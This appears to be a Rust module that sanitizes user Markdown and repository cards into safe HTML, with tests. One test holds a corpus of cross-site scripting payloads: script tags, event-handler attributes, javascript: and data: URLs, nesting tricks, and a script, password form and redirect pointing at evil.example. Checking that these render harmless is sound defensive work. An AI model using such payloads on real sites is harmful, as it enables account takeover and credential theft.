//! Markdown written by users rendered to HTML that is safe to embed.
//!
//! - [`render`] (discussion comments): CommonMark with tables and strikethrough, raw HTML
//!   shown as text, links and images only with http(s), mailto or relative targets.
//! - [`render_card`] (repository cards): CommonMark with tables, strikethrough and task
//!   lists, and raw HTML as the Hub allows it in cards (images, alignment, `<details>`,
//!   tables), all passed through an allow-list sanitizer ([`ammonia`]): scripts, event
//!   handlers, `style`, forms and frames are dropped, and URLs keep only http(s) and
//!   mailto schemes. Relative images point at this repository's files (`resolve/`),
//!   relative links at their pages (`blob/`).

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, html};
use std::borrow::Cow;
use std::collections::HashSet;

/// Renders `source` to HTML.
pub fn render(source: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let events = Parser::new_ext(source, options).map(|event| match event {
        // Raw HTML is shown, never interpreted.
        Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
        Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }) => Event::Start(Tag::Link {
            link_type,
            dest_url: safe_url(dest_url),
            title,
            id,
        }),
        Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) => Event::Start(Tag::Image {
            link_type,
            dest_url: safe_url(dest_url),
            title,
            id,
        }),
        other => other,
    });
    let mut out = String::with_capacity(source.len() + source.len() / 4);
    html::push_html(&mut out, events);
    out
}

/// Keeps relative URLs and http, https and mailto ones; anything else (`javascript:`,
/// `data:`…) becomes `#`.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let scheme_end = url.find([':', '/', '?', '#']);
    let has_scheme = scheme_end.is_some_and(|i| url[i..].starts_with(':'));
    if !has_scheme {
        return url;
    }
    let lower = url.to_ascii_lowercase();
    if ["http:", "https:", "mailto:"]
        .iter()
        .any(|allowed| lower.starts_with(allowed))
    {
        url
    } else {
        CowStr::Borrowed("#")
    }
}

/// Where a card's relative URLs point: `{resolve_base}{path}` for images (the file's bytes)
/// and `{blob_base}{path}` for links (the file's page). Both end with `/`.
#[derive(Clone, Debug)]
pub struct CardLinks {
    pub resolve_base: String,
    pub blob_base: String,
}

/// Languages whose code blocks keep their `language-…` class (for highlighting).
const CODE_LANGUAGES: &[&str] = &[
    "language-python",
    "language-py",
    "language-bash",
    "language-sh",
    "language-shell",
    "language-console",
    "language-json",
    "language-yaml",
    "language-yml",
    "language-toml",
    "language-rust",
    "language-js",
    "language-javascript",
    "language-ts",
    "language-typescript",
    "language-c",
    "language-cpp",
    "language-text",
    "language-bibtex",
    "language-html",
    "language-diff",
    "language-sql",
    "language-go",
    "language-java",
];

/// Renders a repository card (Markdown with raw HTML) to sanitized HTML.
pub fn render_card(source: &str, links: &CardLinks) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES;
    let mut html_out = String::with_capacity(source.len() + source.len() / 4);
    html::push_html(&mut html_out, Parser::new_ext(source, options));
    sanitizer(links.clone()).clean(&html_out).to_string()
}

fn sanitizer(links: CardLinks) -> ammonia::Builder<'static> {
    let mut builder = ammonia::Builder::default();
    builder
        .add_tags(["input", "picture", "source"])
        .add_generic_attributes(["align"])
        .add_tag_attributes("img", ["loading"])
        .add_tag_attributes("details", ["open"])
        .add_tag_attributes("input", ["type", "checked", "disabled"])
        .add_tag_attributes("source", ["srcset", "media", "type"])
        .add_tag_attributes("ol", ["start"])
        .add_allowed_classes("code", CODE_LANGUAGES)
        .add_allowed_classes("ul", ["contains-task-list"])
        .add_allowed_classes("li", ["task-list-item"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::PassThrough)
        .attribute_filter(move |element, attribute, value| {
            match (element, attribute) {
                // Only the disabled checkboxes of task lists.
                ("input", "type") => (value == "checkbox").then_some(Cow::Borrowed(value)),
                ("img", "src") => Some(relative_to(&links.resolve_base, value)),
                ("a", "href") => Some(relative_to(&links.blob_base, value)),
                // A `srcset` lists URLs the scheme filter does not see: only absolute https ones.
                ("source", "srcset") => value
                    .split(',')
                    .all(|candidate| candidate.trim().starts_with("https://"))
                    .then_some(Cow::Borrowed(value)),
                _ => Some(Cow::Borrowed(value)),
            }
        });
    builder
}

/// A path relative to the card's folder (`images/a.png`, `./a.png`) joined to `base`; any
/// other URL (with a scheme, absolute path, `//host`, `#fragment`, `?query`) unchanged.
fn relative_to<'u>(base: &str, url: &'u str) -> Cow<'u, str> {
    let trimmed = url.trim();
    let has_scheme = trimmed
        .find([':', '/', '?', '#'])
        .is_some_and(|i| trimmed[i..].starts_with(':'));
    if trimmed.is_empty() || has_scheme || trimmed.starts_with(['/', '#', '?']) {
        return Cow::Borrowed(url);
    }
    let mut path = trimmed;
    while let Some(rest) = path.strip_prefix("./") {
        path = rest;
    }
    Cow::Owned(format!("{base}{path}"))
}

#[cfg(test)]
mod tests {
    use super::{CardLinks, render, render_card};

    fn card(source: &str) -> String {
        render_card(
            source,
            &CardLinks {
                resolve_base: "/acme/m/resolve/main/".into(),
                blob_base: "/acme/m/blob/main/".into(),
            },
        )
    }

    #[test]
    fn cards_keep_the_html_the_hub_allows() {
        let html = card(
            "<p align=\"center\"><img src=\"assets/logo.png\" width=\"200\" alt=\"logo\"></p>\n\n\
             <details><summary>More</summary>\n\nHidden *text*\n\n</details>\n\n\
             | a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n\
             ```python\nprint(1)\n```\n\n[config](config.json) [ext](https://example.com/x)\n\n\
             ![chart](./img/chart.png)",
        );
        assert!(html.contains("<p align=\"center\">"), "{html}");
        assert!(
            html.contains("src=\"/acme/m/resolve/main/assets/logo.png\""),
            "{html}"
        );
        assert!(html.contains("width=\"200\""), "{html}");
        assert!(html.contains("<details><summary>More</summary>"), "{html}");
        assert!(html.contains("<em>text</em>"), "{html}");
        assert!(html.contains("<table>"), "{html}");
        assert!(html.contains("type=\"checkbox\""), "{html}");
        assert!(html.contains("checked"), "{html}");
        assert!(html.contains("class=\"language-python\""), "{html}");
        assert!(
            html.contains("href=\"/acme/m/blob/main/config.json\""),
            "{html}"
        );
        assert!(html.contains("href=\"https://example.com/x\""), "{html}");
        assert!(
            html.contains("src=\"/acme/m/resolve/main/img/chart.png\""),
            "{html}"
        );
    }

    /// Each hostile card, rendered, must keep none of the markers.
    #[test]
    fn hostile_cards_render_harmless() {
        let corpus = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</div>",
            "<style>body{display:none}</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<iframe src=https://evil.example></iframe>",
            "<object data=x></object><embed src=x>",
            "<form action=https://evil.example><input type=password name=p></form>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)><summary>x</summary></details>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example/>",
            "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
            "<picture><source srcset=\"javascript:alert(1)\"><img src=x></picture>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<!--<img src=x onerror=alert(1)>-->",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        ];
        let markers = [
            "<script",
            "onerror",
            "onload",
            "onclick",
            "onmouseover",
            "ontoggle",
            "javascript:",
            "vbscript:",
            "data:",
            "style",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<link",
            "<meta",
            "<base",
            "type=\"password\"",
        ];
        for source in corpus {
            let html = card(source).to_ascii_lowercase();
            for marker in markers {
                assert!(!html.contains(marker), "{source:?} rendered {html:?}");
            }
        }
    }

    #[test]
    fn renders_markdown() {
        assert_eq!(render("**hi** there"), "<p><strong>hi</strong> there</p>\n");
        assert!(render("| a |\n|---|\n| b |").contains("<table>"));
    }

    #[test]
    fn raw_html_and_script_urls_are_neutralised() {
        let html = render("<script>alert(1)</script>\n\nx <b onmouseover=x>y</b>");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<b "), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        let html =
            render("[a](javascript:alert(1)) [b](JaVaScRiPt:x) ![c](data:image/png;base64,x)");
        assert!(!html.to_ascii_lowercase().contains("javascript"), "{html}");
        assert!(!html.contains("data:"), "{html}");
        let html = render("[ok](https://example.com/x) [rel](docs/a.md) [mail](mailto:a@b.c)");
        assert!(html.contains("href=\"https://example.com/x\""), "{html}");
        assert!(html.contains("href=\"docs/a.md\""), "{html}");
        assert!(html.contains("href=\"mailto:a@b.c\""), "{html}");
    }
}
